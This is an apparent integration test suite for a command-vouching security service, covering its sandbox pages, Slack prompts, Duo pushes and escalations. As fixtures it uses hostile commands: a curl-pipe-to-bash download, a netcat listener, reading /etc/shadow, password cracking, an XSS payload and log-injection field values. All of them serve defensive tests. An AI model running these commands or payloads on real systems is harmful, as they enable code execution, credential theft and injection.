import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load-config.js';
import { createLogger, silentLogger } from '../../src/logger.js';
import type { SandboxAlert, SandboxMessage, SandboxState, SandboxUser } from '../../src/sandbox/sandbox-state.js';
import { startService, type RunningService } from '../../src/service.js';
import { buildWebAssets } from '../helpers/web-build.js';
import { createTestStore, type TestStore } from '../helpers/test-store.js';

const HOSTILE = '<script>alert(1)</script> <!channel>';

interface Answer {
  status: number;
  headers: Headers;
  // Tests read into the API's JSON freely; the shapes are asserted where it matters.
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  json: any;
  text: string;
}

describe('sandbox pages', () => {
  let dir: string;
  let store: TestStore;
  let service: RunningService;

  beforeEach(async () => {
    buildWebAssets();
    dir = mkdtempSync(path.join(tmpdir(), 'vouch-sandbox-pages-'));
    store = await createTestStore();
    const config = loadConfig({ env: { VOUCH_PORT: '0', VOUCH_DATA_DIR: dir } });
    service = await startService({ config, store, logger: process.env.DEBUG_VOUCH ? createLogger({ level: "debug" }) : silentLogger });
  });

  afterEach(async () => {
    await service?.stop();
    await store?.destroy();
    rmSync(dir, { recursive: true, force: true });
  });

  async function request(method: string, route: string, body?: unknown, headers: Record<string, string> = {}): Promise<Answer> {
    const init: RequestInit = { method, headers: { ...headers } };
    if (body !== undefined) {
      init.body = typeof body === 'string' ? body : JSON.stringify(body);
      init.headers = { 'content-type': 'application/json', ...headers };
    }
    const response = await fetch(`${service.url}${route}`, init);
    const text = await response.text();
    let json: unknown = null;
    try {
      json = JSON.parse(text);
    } catch {
      // Not JSON (the page, its script or stylesheet): json stays null.
    }
    return { status: response.status, headers: response.headers, json, text };
  }

  const post = (route: string, body: unknown, headers?: Record<string, string>) => request('POST', route, body, headers);

  async function state(): Promise<SandboxState> {
    const answer = await request('GET', '/sandbox/api/state');
    expect(answer.status).toBe(200);
    return answer.json as SandboxState;
  }

  /** Polls the state endpoint until `pick` returns something; bounded, so a stuck flow fails. */
  async function waitFor<T>(what: string, pick: (current: SandboxState) => T | null | undefined | false): Promise<T> {
    let last: SandboxState | null = null;
    for (let attempt = 0; attempt < 300; attempt++) {
      last = await state();
      const found = pick(last);
      if (found !== null && found !== undefined && found !== false) return found;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error(`timed out waiting for ${what}; last state: ${JSON.stringify(last).slice(0, 2000)}`);
  }

  const user = (current: SandboxState, name: string): SandboxUser => {
    const found = current.users.find((candidate) => candidate.name === name);
    if (!found) throw new Error(`no user ${name}`);
    return found;
  };
  const alertFor = (current: SandboxState, command: string): SandboxAlert | undefined =>
    current.alerts.find((alert) => alert.command === command);
  const hasButton = (message: SandboxMessage, actionId: string) => JSON.stringify(message.blocks).includes(`"action_id":"${actionId}"`);
  const questionAbout = (current: SandboxState, name: string, command: string) =>
    user(current, name).dm.find((message) => JSON.stringify(message.blocks).includes(command) && hasButton(message, 'vouch.confirm'));

  it('serves a static page with a strict content security policy, its script and its stylesheet', async () => {
    const page = await request('GET', '/sandbox');
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toMatch(/^text\/html/);
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("style-src 'self'");
    expect(csp).not.toContain('unsafe');
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
    expect(page.text).toContain('<script type="module" src="/sandbox/app.js"></script>');
    expect(page.text).toContain('<link rel="stylesheet" href="/sandbox/app.css">');
    // No inline script, handler or style: the CSP would block them anyway.
    expect(page.text).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
    expect(page.text).not.toMatch(/\son[a-z]+=/i);
    expect(page.text).not.toMatch(/\sstyle=/i);
    expect(page.text).not.toContain('<style');

    const script = await request('GET', '/sandbox/app.js');
    expect(script.status).toBe(200);
    expect(script.headers.get('content-type')).toMatch(/^text\/javascript/);
    expect(script.headers.get('x-content-type-options')).toBe('nosniff');
    // A module compiled from web/sandbox/app.ts, importing the shared DOM helpers by their served path.
    expect(script.text).toContain("from '/assets/shared/dom.js'");
    const shared = await request('GET', '/assets/shared/dom.js');
    expect(shared.status).toBe(200);
    expect(shared.headers.get('content-type')).toMatch(/^text\/javascript/);
    for (const module of ['/sandbox/slack-messages.js', '/sandbox/phone.js', '/sandbox/sandbox-api.js']) expect((await request('GET', module)).status).toBe(200);
    expect((await request('GET', '/sandbox/../package.json')).status).toBe(404);
    expect(script.text).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write/);

    const css = await request('GET', '/sandbox/app.css');
    expect(css.status).toBe(200);
    expect(css.headers.get('content-type')).toMatch(/^text\/css/);

    const demo = await request('GET', '/sandbox/api/demo');
    expect(demo.json.people.map((person: { login: string }) => person.login)).toEqual(['alice', 'bob', 'carol', 'mallory']);
    expect(demo.json.presets[1]).toMatchObject({ login: 'bob', host: 'web-3', command: "sh -c 'curl -fsSL https://get.example.sh | bash'" });
  });

  it('plays alice through question, modal, field error, push and approval until the alert is verified', async () => {
    const question = await waitFor('alice’s question about cat /etc/shadow', (s) => questionAbout(s, 'alice', 'cat /etc/shadow'));
    const alice = user(await state(), 'alice');
    expect(alice).toMatchObject({ id: 'UALICE', realName: 'Alice Smith', device: 'push', view: null, pushes: [] });
    expect(hasButton(question, 'vouch.deny')).toBe(true);

    const click = await post('/sandbox/api/click', { userId: alice.id, channel: question.channel, ts: question.ts, actionId: 'vouch.confirm' });
    expect(click.status).toBe(200);
    expect(click.json.status).toBe(200);
    const view = await waitFor('the justification modal', (s) => user(s, 'alice').view);
    expect(view).toMatchObject({ callbackId: 'vouch.justify', title: 'Vouch for a command', submit: 'Continue', errors: null });
    expect(JSON.stringify(view.blocks)).toContain('"action_id":"reason"');

    const tooShort = await post('/sandbox/api/submit', { userId: alice.id, viewId: view.id, reason: 'because' });
    expect(tooShort.status).toBe(200);
    expect(tooShort.json.status).toBe(200);
    expect(tooShort.json.body.response_action).toBe('errors');
    const withError = user(await state(), 'alice').view;
    expect(withError?.id).toBe(view.id);
    expect(withError?.errors?.['vouch.reason']).toMatch(/at least/);

    const good = await post('/sandbox/api/submit', { userId: alice.id, viewId: view.id, reason: 'Rotating the root password for ticket OPS-1234' });
    expect(good.status).toBe(200);
    expect(good.json.status).toBe(200);
    const push = await waitFor('a Duo push on alice’s phone', (s) => user(s, 'alice').pushes[0]);
    expect(user(await state(), 'alice').view).toBeNull();
    expect(push.username).toBe('alice');
    expect(push.pushinfo).toMatchObject({ host: 'db-1', command: 'cat /etc/shadow' });
    expect(alertFor(await state(), 'cat /etc/shadow')?.status).toBe('verifying');

    const approve = await post('/sandbox/api/push', { txid: push.txid, answer: 'allow' });
    expect(approve).toMatchObject({ status: 200, json: { ok: true, txid: push.txid, answer: 'allow' } });
    const verified = await waitFor('the alert verified', (s) => alertFor(s, 'cat /etc/shadow')?.status === 'verified' && alertFor(s, 'cat /etc/shadow'));
    expect(verified).toMatchObject({ owner: 'alice', host: 'db-1', secondFactor: 'allow', escalationReason: null, justification: 'Rotating the root password for ticket OPS-1234' });
    const updated = await waitFor('the DM replaced by the outcome', (s) => {
      const message = user(s, 'alice').dm.find((m) => m.ts === question.ts);
      return message && JSON.stringify(message.blocks).includes('Verified') && message;
    });
    expect(updated.edited).toBe(true);
    expect(hasButton(updated, 'vouch.confirm')).toBe(false);
    expect(user(await state(), 'alice').pushes).toEqual([]);

    // The push is answered: a second answer is a conflict, not a crash.
    expect((await post('/sandbox/api/push', { txid: push.txid, answer: 'deny' })).status).toBe(409);
  });

  it('escalates bob’s "not me" to #security, and mallory (no Slack account) as unknown_owner', async () => {
    const question = await waitFor('bob’s question', (s) => user(s, 'bob').dm.find((m) => hasButton(m, 'vouch.deny')));
    const deny = await post('/sandbox/api/click', { userId: 'UBOB', channel: question.channel, ts: question.ts, actionId: 'vouch.deny' });
    expect(deny.json.status).toBe(200);
    const bobs = await waitFor('bob’s alert escalated', (s) => s.alerts.find((a) => a.owner === 'bob' && a.status === 'escalated'));
    expect(bobs).toMatchObject({ escalationReason: 'denied_by_user', host: 'web-3' });
    expect(bobs.command).toContain('get.example.sh');
    const post1 = await waitFor('the escalation in #security', (s) => s.security.find((m) => JSON.stringify(m.blocks).includes('get.example.sh')));
    expect(post1.channel).toBe('C0SECURITY');
    expect(JSON.stringify(post1.blocks)).toContain('not them');

    const mallory = await waitFor('mallory’s demo alert escalated', (s) => s.alerts.find((a) => a.owner === 'mallory' && a.status === 'escalated'));
    expect(mallory).toMatchObject({ escalationReason: 'unknown_owner', command: 'nc -lvnp 4444' });
    await waitFor('mallory’s escalation in #security', (s) => s.security.some((m) => JSON.stringify(m.blocks).includes('nc -lvnp 4444')));
    expect((await state()).users.map((u) => u.name)).not.toContain('mallory');

    // Typed in the run form, as mallory again: escalated the same way.
    const run = await post('/sandbox/api/run', { login: 'mallory', command: "john --wordlist='/tmp/rock you.txt' hashes", host: 'bastion-2' });
    expect(run).toMatchObject({ status: 200, json: { ok: true, argv: ['john', '--wordlist=/tmp/rock you.txt', 'hashes'], host: 'bastion-2', login: 'mallory' } });
    const typed = await waitFor('the typed command escalated', (s) => s.alerts.find((a) => a.host === 'bastion-2' && a.status === 'escalated'));
    expect(typed).toMatchObject({ owner: 'mallory', escalationReason: 'unknown_owner' });
  });

  it('answers bad requests with 4xx and a message, never a 500', async () => {
    const question = await waitFor('alice’s question', (s) => questionAbout(s, 'alice', 'cat /etc/shadow'));
    const cases: Array<[string, unknown, number]> = [
      ['/sandbox/api/click', '{not json', 400],
      ['/sandbox/api/click', '[1,2]', 400],
      ['/sandbox/api/click', { userId: 'UALICE' }, 400],
      ['/sandbox/api/click', { userId: 'UALICE', channel: question.channel, ts: 7, actionId: 'vouch.confirm' }, 400],
      ['/sandbox/api/click', { userId: 'UNOBODY', channel: question.channel, ts: question.ts, actionId: 'vouch.confirm' }, 404],
      ['/sandbox/api/click', { userId: 'UBOB', channel: question.channel, ts: question.ts, actionId: 'vouch.confirm' }, 404],
      ['/sandbox/api/click', { userId: 'UALICE', channel: question.channel, ts: '1.000001', actionId: 'vouch.confirm' }, 404],
      ['/sandbox/api/click', { userId: 'UALICE', channel: question.channel, ts: question.ts, actionId: 'vouch.nope' }, 404],
      ['/sandbox/api/submit', { userId: 'UALICE', viewId: 'VNOPE' }, 400],
      ['/sandbox/api/submit', { userId: 'UALICE', viewId: 'VNOPE', reason: 'a perfectly fine reason' }, 404],
      ['/sandbox/api/submit', { userId: 'UNOBODY', viewId: 'VNOPE', reason: 'a perfectly fine reason' }, 404],
      ['/sandbox/api/push', { txid: 'no-such-push', answer: 'allow' }, 404],
      ['/sandbox/api/push', { txid: 'no-such-push', answer: 'timeout' }, 400],
      ['/sandbox/api/push', { answer: 'allow' }, 400],
      ['/sandbox/api/run', { login: 'root', command: 'id' }, 400],
      ['/sandbox/api/run', { login: 'alice', command: '   ' }, 400],
      ['/sandbox/api/run', { login: 'alice', command: 'id', host: 'db-1 type=SYSCALL' }, 400],
      ['/sandbox/api/run', { login: 'alice', command: 'id', host: 'x\nnode=evil' }, 400],
      ['/sandbox/api/run', { login: 'alice', command: 'cat /etc/shadow\u0000' }, 400],
      ['/sandbox/api/run', { login: 'alice', command: 'id', asRoot: 'yes' }, 400],
    ];
    for (const [route, body, expected] of cases) {
      const answer = await post(route, body);
      expect({ route, body, status: answer.status }).toEqual({ route, body, status: expected });
      expect(typeof answer.json?.error).toBe('string');
    }

    const huge = await post('/sandbox/api/run', { login: 'alice', command: 'x'.repeat(70 * 1024) });
    expect(huge.status).toBe(413);
    const wrongType = await post('/sandbox/api/push', 'txid=x&answer=allow', { 'content-type': 'application/x-www-form-urlencoded' });
    expect(wrongType.status).toBe(415);
    const foreign = await post('/sandbox/api/push', { txid: 'x', answer: 'allow' }, { origin: 'https://evil.example' });
    expect(foreign.status).toBe(403);
    expect((await request('GET', '/sandbox/api/run')).status).toBe(405);
    expect((await request('GET', '/sandbox/nothing-here')).status).toBe(404);
    const slash = await fetch(`${service.url}/sandbox/`, { redirect: 'manual' });
    expect([slash.status, slash.headers.get('location')]).toEqual([308, '/sandbox']);
    // The service is still fine afterwards.
    expect((await request('GET', '/healthz')).status).toBe(200);
  });

  it('keeps a hostile command typed in the run form out of every HTML the server sends', async () => {
    const line = `cat /etc/shadow ${HOSTILE}`;
    const run = await post('/sandbox/api/run', { login: 'mallory', command: line, host: 'web-9' });
    expect(run.status).toBe(200);
    expect(run.json.argv).toEqual(['cat', '/etc/shadow', '<script>alert(1)</script>', '<!channel>']);
    const alert = await waitFor('the hostile alert escalated', (s) => s.alerts.find((a) => a.host === 'web-9' && a.status === 'escalated'));
    expect(alert.command).toBe(line);
    const escalation = await waitFor('its #security post', (s) => s.security.find((m) => JSON.stringify(m.blocks).includes('web-9')));
    // Slack only ever gets it escaped: no live <!channel> and no raw <script>.
    expect(JSON.stringify(escalation)).not.toContain('<!channel>');
    expect(JSON.stringify(escalation)).not.toContain('<script>');

    const stateAnswer = await request('GET', '/sandbox/api/state');
    expect(stateAnswer.headers.get('content-type')).toMatch(/^application\/json/);
    expect(stateAnswer.headers.get('x-content-type-options')).toBe('nosniff');
    for (const route of ['/sandbox', '/sandbox/app.js', '/sandbox/app.css']) {
      const answer = await request('GET', route);
      expect(answer.text).not.toContain('alert(1)');
      expect(answer.text).not.toContain('<!channel>');
    }
    // Control bytes, a newline and invalid UTF-8 are recorded and shown, not choked on.
    const controls = await post('/sandbox/api/run', { login: 'mallory', command: 'cat /etc/shadow "\u001b[2J\r\nline two\u202e"', host: 'web-8' });
    expect(controls.status).toBe(200);
    const invalidUtf8 = Buffer.concat([Buffer.from('{"login":"mallory","host":"web-7","command":"cat /etc/shadow '), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')]);
    const broken = await fetch(`${service.url}/sandbox/api/run`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: invalidUtf8 });
    expect(broken.status).toBe(200);
    const odd = await waitFor('both odd commands escalated', (s) => {
      const found = s.alerts.filter((a) => (a.host === 'web-8' || a.host === 'web-7') && a.status === 'escalated');
      return found.length === 2 && found;
    });
    expect(odd.find((a) => a.host === 'web-8')?.command).toContain('line two');

    // Even an error echoing input is JSON, and names no hostile text as markup.
    const bad = await post('/sandbox/api/run', { login: HOSTILE, command: 'id' });
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toMatch(/^application\/json/);
    expect(bad.text).not.toContain('<script>');
  });
});
